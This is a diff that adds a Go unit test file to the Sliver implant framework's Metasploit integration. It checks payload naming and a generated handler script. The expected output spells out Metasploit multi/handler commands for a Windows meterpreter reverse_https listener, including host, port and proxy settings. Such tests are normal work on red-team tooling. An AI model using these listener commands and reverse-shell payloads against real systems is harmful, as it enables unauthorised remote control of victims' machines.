@@ -0,0 +1,73 @@
+package msf
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestPayloadName(t *testing.T) {
+	name := PayloadName(VenomConfig{Os: "windows", Arch: "x64", Payload: "meterpreter/reverse_tcp"})
+	if name != "windows/x64/meterpreter/reverse_tcp" {
+		t.Errorf("unexpected payload name %s", name)
+	}
+	name = PayloadName(VenomConfig{Os: "windows", Arch: "x86", Payload: "meterpreter/reverse_tcp"})
+	if name != "windows/meterpreter/reverse_tcp" {
+		t.Errorf("unexpected payload name %s", name)
+	}
+}
+
+func TestHandlerScript(t *testing.T) {
+	script, err := HandlerScript(VenomConfig{
+		Os:         "windows",
+		Arch:       "x64",
+		Payload:    "meterpreter/reverse_https",
+		LHost:      "10.0.0.1",
+		LPort:      8443,
+		AdvOptions: "HttpProxyPort=8080&HttpProxyHost=proxy.corp.com",
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	expected := []string{
+		"use exploit/multi/handler",
+		"set PAYLOAD windows/x64/meterpreter/reverse_https",
+		"set LHOST 10.0.0.1",
+		"set LPORT 8443",
+		"set HttpProxyHost proxy.corp.com",
+		"set HttpProxyPort 8080",
+		"exploit -j",
+	}
+	lines := strings.Split(script, "\n")
+	index := 0
+	for _, line := range lines {
+		if index < len(expected) && line == expected[index] {
+			index++
+		}
+	}
+	if index != len(expected) {
+		t.Errorf("missing or out of order '%s' in:\n%s", expected[index], script)
+	}
+
+	_, err = HandlerScript(VenomConfig{AdvOptions: "%zz"})
+	if err == nil {
+		t.Error("expected an error for invalid advanced options")
+	}
+}